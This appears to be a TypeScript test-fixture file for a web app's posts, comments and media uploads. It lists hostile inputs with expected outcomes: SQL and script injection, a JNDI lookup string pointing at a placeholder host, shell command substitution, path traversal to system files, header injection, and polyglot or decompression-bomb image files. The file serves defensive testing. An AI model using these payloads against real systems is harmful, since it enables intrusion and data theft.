import sharp from "sharp";
import { box, movingGif, plainPng, smallMp4 } from "@/lib/media/testing";

/**
 * Every bad input there is a test for, with what is expected of it. The tests of posts, comments, ideas, media and of
 * the HTTP API each drive all of it through what they are about: whatever is added here meets them all.
 */

/** `works`: kept sign by sign as `kept`. `tooLong`: refused by every field of a post. `blank`: no title, no comment. */
export type BadText = { name: string; text: string; kept: string; expected: "works" | "tooLong" | "blank" };

export const badTexts: readonly BadText[] = [
  works("SQL", "'; drop table posts; --"),
  works("a script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
  works("templates", "{{ort}} #{7*7} %s %00 \\u0000 \u0024{jndi:ldap://x.example/a}"),
  works("a formula", '=HYPERLINK("https://beispiel.example")'),
  works("a command", "`touch x` $(touch x) | touch x & touch x"),
  works("a path", "../../../etc/passwd C:\\Windows\\win.ini"),
  works("a header", "Titel\r\nSet-Cookie: a=b\r\n\r\n<html>"),
  works("the end of a tag", ']]> --> */ "> </textarea>'),
  works("marks and gender marks", "*Kolleg*innen* _und_ **mehr** `so`"),
  works("words that mean something elsewhere", "undefined null NaN true 0 -1 1e999 __proto__ constructor"),
  works("right to left", "שלום וברכה \u202eنصيحة\u202c مرحبا"),
  works("directions that are never ended", "\u202e\u2066\u2067\u2068 umgekehrt"),
  works("combining marks", "e\u0301\u0301\u0301 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘"),
  works("emoji of several signs", "👩‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🦽 🇩🇪"),
  works("signs that cannot be seen", "\u200b\u200d\ufeff\u00a0\u2028\u2029"),
  works("lines and tabs", "Zeile\r\nZeile\n\n\nZeile\tTab"),
  works("control signs", "a\u0001\u0007\u001b[31m\u007f\u0085b"),
  works("letters that change when they are folded", "𝗙𝗲𝘁𝘁 ﷽ ẞ ſ ﬁ İ ı Ω"),
  works("the longest text", "a".repeat(20_000)),
  works("the longest text without a letter of ASCII", "😀".repeat(10_000)),
  { name: "64 kB", text: "ä".repeat(32 * 1024), kept: "ä".repeat(32 * 1024), expected: "tooLong" },
  { name: "nothing but spaces", text: " \t\n \u00a0", kept: " \t\n \u00a0", expected: "blank" },
  { name: "nothing at all", text: "", kept: "", expected: "blank" },
  { name: "the sign of nothing", text: "vor\0nach\0", kept: "vornach", expected: "works" },
  {
    name: "halves of a pair",
    text: "\ud83d vor \udc9b\ud83d nach \ud83d",
    kept: "\ufffd vor \ufffd\ufffd nach \ufffd",
    expected: "works",
  },
];

/** More than one post is meant to hold; one more is refused. */
export const manyComments = { count: 500, expected: "works", oneMore: "tooManyComments" } as const;

/** `works` is kept as `mime`, without anything of `smuggled`; any other is the reason of the refusal. */
export type BadFile = { name: string; fileName: string; bytes: () => Promise<Uint8Array> } & (
  | { expected: "works"; mime: string }
  | { expected: `media.${string}` }
);

/** What must never come out again of a file that is taken. */
export const smuggled = "alert(1)";

const page = Buffer.from(`<!doctype html><script>${smuggled}</script>`);
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${smuggled}</script></svg>`;
const archive = Buffer.from(`PK\x03\x04 ${smuggled} PK\x05\x06`, "latin1");

export const badFiles: readonly BadFile[] = [
  refused("nothing at all", "leer.jpg", "media.emptyFile", () => new Uint8Array()),
  refused("a HEIC picture", "IMG_1.HEIC", "media.phonePicture", () => branded("heic")),
  refused("a HEIF picture", "IMG_2.heif", "media.phonePicture", () => branded("mif1")),
  refused("a HEIC picture named .jpg", "IMG_3.jpg", "media.phonePicture", () => branded("heic")),
  refused("an AVIF picture", "Bild.avif", "media.phonePicture", () => branded("avif")),
  refused("a MOV video", "IMG_4.MOV", "media.phoneVideo", () => branded("qt  ")),
  refused("an SVG with a script", "Logo.svg", "media.drawing", () => Buffer.from(svg)),
  refused("an SVG with a head", "Logo.png", "media.drawing", () =>
    Buffer.from(`\uFEFF<?xml version="1.0"?>\n<!-- x -->${svg}`),
  ),
  refused("a web page named .png", "Seite.png", "media.unknownType", () => page),
  refused("a program", "Bild.jpg", "media.unknownType", () => Buffer.from("MZ\x90\0\x03\0\0\0", "latin1")),
  refused("an archive", "Bilder.zip", "media.unknownType", () => Buffer.from("504b0304140000000800", "hex")),
  refused("a PDF", "Flyer.pdf", "media.unknownType", () => Buffer.from("%PDF-1.7\n")),
  refused("a TIFF", "Scan.tif", "media.unknownType", () => Buffer.from("49492a0008000000", "hex")),
  refused("a JPEG behind the head of a PDF", "Bild.jpg", "media.unknownType", async () =>
    Buffer.concat([Buffer.from("%PDF-1.7\n"), await photo("jpeg")]),
  ),
  refused("a JPEG cut in the middle", "halb.jpg", "media.damaged", async () => half(await photo("jpeg"))),
  refused("a PNG cut in the middle", "halb.png", "media.damaged", async () => half(await photo("png"))),
  refused("a video cut at its end", "halb.mp4", "media.damaged", () => smallMp4().subarray(0, -10)),
  refused("the beginning of a JPEG", "Anfang.jpg", "media.damaged", async () =>
    (await photo("jpeg")).subarray(0, 30),
  ),
  refused("the beginning of a video", "Anfang.mp4", "media.damaged", () => smallMp4().subarray(0, 28)),
  refused("a video and a web page", "Film.mp4", "media.damaged", () => Buffer.concat([smallMp4(), page])),
  refused("a GIF that is a script", "Bild.gif", "media.damaged", () =>
    Buffer.from(`GIF89a=/*${"\0".repeat(60)}*/1;${smuggled}`, "latin1"),
  ),
  refused("a PNG that says it is larger than it is", "Bild.png", "media.damaged", () =>
    plainPng(2_000, 2_000, 3),
  ),
  refused("a PNG that says it has 100 megapixels", "Bild.png", "media.tooManyPixels", () =>
    plainPng(10_000, 10_000, 3),
  ),
  refused("a JPEG that says it has 100 megapixels", "Bild.jpg", "media.tooManyPixels", async () =>
    claiming(await photo("jpeg"), 10_000),
  ),
  refused("a PNG of 400 megapixels", "Bild.png", "media.tooManyPixels", () => plainPng(20_000, 20_000)),
  refused("a picture of 16 MB", "groß.jpg", "media.imageTooLarge", async () =>
    Buffer.concat([await photo("jpeg"), Buffer.alloc(16 * 1024 * 1024)]),
  ),
  refused("a video of 100 MB and a little", "lang.mp4", "media.videoTooLarge", () =>
    smallMp4(100 * 1024 * 1024),
  ),
  taken("1,000 frames of one megapixel", "Bombe.gif", "image/webp", () => movingGif(1_000, 1_000)),
  taken("a JPEG named .png", "Foto.png", "image/jpeg", () => photo("jpeg")),
  taken("a PNG named as a program", "../../Rechnung.pdf.exe", "image/png", () => photo("png")),
  taken("a picture without an ending", "\u202egpj.\u0000Bild", "image/jpeg", () => photo("jpeg")),
  taken("a JPEG with a web page and an archive behind it", "Bild.jpg", "image/jpeg", async () =>
    Buffer.concat([await photo("jpeg"), page, archive]),
  ),
  taken("a PNG with a web page and an archive behind it", "Bild.png", "image/png", async () =>
    Buffer.concat([await photo("png"), page, archive]),
  ),
  taken("a JPEG with a script in its comment", "Bild.jpg", "image/jpeg", async () =>
    commented(await photo("jpeg")),
  ),
];

/** Bodies of requests, in bytes, that no endpoint reads to their end, whether they say how long they are or not. */
export const badBodies = [
  { name: "200 MB that say so", bytes: 200 * 1024 * 1024, declared: true, expected: "tooLarge" },
  { name: "200 MB that do not", bytes: 200 * 1024 * 1024, declared: false, expected: "tooLarge" },
] as const;

function works(name: string, text: string): BadText {
  return { name, text, kept: text, expected: "works" };
}

type Bytes = () => Uint8Array | Promise<Uint8Array>;

function refused(name: string, fileName: string, expected: `media.${string}`, bytes: Bytes): BadFile {
  return { name, fileName, expected, bytes: async () => bytes() };
}

function taken(name: string, fileName: string, mime: string, bytes: Bytes): BadFile {
  return { name, fileName, expected: "works", mime, bytes: async () => bytes() };
}

function photo(format: "jpeg" | "png"): Promise<Buffer> {
  const noise = { type: "gaussian" as const, mean: 128, sigma: 20 };
  const create = { width: 400, height: 300, channels: 3 as const, background: "#c2410c", noise };
  return sharp({ create }).toFormat(format).toBuffer();
}

function half(bytes: Uint8Array): Uint8Array {
  return bytes.subarray(0, bytes.length / 2);
}

/** The beginning of a picture or a film of that brand, as cameras of phones write them. */
function branded(brand: string): Uint8Array {
  const type = Buffer.from(`${brand}\0\0\0\0${brand}mif1`, "latin1");
  return Buffer.concat([box("ftyp", type), box("mdat", Buffer.alloc(900))]);
}

/** A JPEG whose head says that each side is that long. */
function claiming(jpeg: Buffer, side: number): Buffer {
  const head = jpeg.indexOf(Buffer.from("ffc0", "hex"));
  jpeg.writeUInt16BE(side, head + 5);
  jpeg.writeUInt16BE(side, head + 7);
  return jpeg;
}

function commented(jpeg: Buffer): Buffer {
  const comment = Buffer.concat([Buffer.from("fffe0000", "hex"), page]);
  comment.writeUInt16BE(page.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
}
